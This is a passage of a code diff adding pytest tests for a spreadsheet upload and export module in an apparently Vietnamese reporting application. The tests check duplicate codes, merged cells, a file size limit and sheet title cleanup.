+    with pytest.raises(SpreadsheetErrors) as caught:
+        parse_upload(report_request, out.getvalue())
+    messages = [(e.cell, e.message) for e in caught.value.errors]
+    assert ("B9", "Mã chỉ tiêu CT01 xuất hiện hai lần (dòng 5 và dòng 9).") in messages
+    assert any(cell == "" and "CT04" in message for cell, message in messages)
+
+
+def test_a_workbook_without_any_of_the_codes_is_refused(report_request):
+    wb = Workbook()
+    wb.active.append(["Mã", "Giá trị"])
+    wb.active.append(["X1", 5])
+    out = io.BytesIO()
+    wb.save(out)
+    assert the_error(report_request, out.getvalue()).startswith("Không tìm thấy chỉ tiêu nào")
+
+
+def test_in_a_copy_a_number_inside_a_merged_range_is_an_error(report_request):
+    rows = COPIED | {"CT02": [None, None, None, None, None, "ước tính"]}
+    wb = load_workbook(io.BytesIO(copied_workbook(rows)))
+    wb.active.merge_cells("D5:D6")  # one value typed over CT01 and CT02
+    out = io.BytesIO()
+    wb.save(out)
+    errors = errors_of(report_request, out.getvalue())
+    assert errors == {"D6": "Ô D6 nằm trong vùng gộp ô D5:D6; hãy bỏ gộp ô và nhập số liệu cho từng chỉ tiêu."}
+
+
+# --------------------------------------------------------------------------------------------- file objects
+
+
+def test_parse_takes_the_uploaded_file_itself(report_request):
+    file = upload("bao-cao.xlsx", fill(build_template(report_request), GOOD))
+    file.read(10)  # wherever the view left it
+    assert len(parse_upload(report_request, file).values) == 5
+
+
+def test_parse_refuses_an_uploaded_file_over_the_limit_before_reading_it(settings, report_request):
+    settings.GIAMSAT_MAX_UPLOAD_BYTES = 1024
+    message = the_error(report_request, upload("bao-cao.xlsx", fill(build_template(report_request), GOOD)))
+    assert message.startswith("Tệp quá lớn") and message.endswith("Dung lượng tối đa là 1 KB.")
+
+
+def test_export_rows_streams_a_generator():
+    content = export_rows(["Mã", "Giá trị"], ((f"X{i}", i) for i in range(1000)), title="Bảng: chỉ tiêu/đơn vị")
+    ws = load_workbook(io.BytesIO(content)).active
+    assert ws.title == "Bảng chỉ tiêu đơn vị"
+    assert ws.max_row == 1001 and ws["B1001"].value == 999
